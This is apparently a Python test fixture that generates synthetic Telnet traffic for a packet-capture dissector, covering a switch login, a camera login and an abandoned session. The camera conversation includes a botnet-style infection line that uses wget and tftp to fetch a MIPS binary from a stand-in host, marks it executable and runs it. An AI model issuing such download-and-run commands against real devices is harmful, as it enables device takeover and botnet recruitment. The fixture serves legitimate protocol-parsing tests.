"""Telnet: a login to a switch at the second attempt and a command; a login to a camera and commands that download and
run a program; a client that disconnects at the shell prompt of another device.
"""

from __future__ import annotations

from pcaps.dissectors._frames import CAMERA, DESKTOP, GATEWAY, Frames, conversation


def frames() -> Frames:
    parts = [
        (False, b"\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f"),
        (True, b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0"),
        (False, b"\r\nSG350-28 28-Port Gigabit Managed Switch\r\n\r\nUser Access Verification\r\n\r\nUsername: "),
        (True, b"admim\x7fn\r\n"),
        (False, b"admin\r\nPassword: "),
        (True, b"wrong-secret\r\n"),
        (False, b"\r\n% Login invalid\r\n\r\nUsername: "),
        (True, b"netops\r\0"),
        (False, b"netops\r\nPassword: "),
        (True, b"right-secret\r\0"),
        (False, b"\r\nswitch#"),
        (True, b"show version\r\0"),
    ]
    yield from conversation((DESKTOP, "10.20.30.66", 49180), (GATEWAY, "10.20.30.1", 23), parts)
    parts = [
        (False, b"\xff\xfd\x01\xff\xfb\x01\xff\xfb\x03DCS-932 login: "),
        (True, b"root\r\n"),
        (False, b"Password: "),
        (True, b"factory-secret\r\n"),
        (False, b"\r\n\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# "),
        (True, b"enable\r\nsystem\r\nshell\r\nsh\r\n"),
        (True, b"/bin/busybox LZRD\r\n"),
        (False, b"LZRD: applet not found\r\n# "),
        (
            True,
            (
                b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; "
                b"chmod 777 .l; ./.l tel\r\n"
            ),
        ),
    ]
    yield from conversation((DESKTOP, "10.20.30.66", 49181), (CAMERA, "10.20.30.80", 23), parts)
    parts = [
        (False, b"cam login: "),
        (True, b"root\r\n"),
        (False, b"Password: "),
        (True, b"other-secret\r\n"),
        (False, b"\r\n~ # "),
    ]
    yield from conversation((DESKTOP, "10.20.30.66", 49182), (CAMERA, "10.20.30.81", 23), parts)
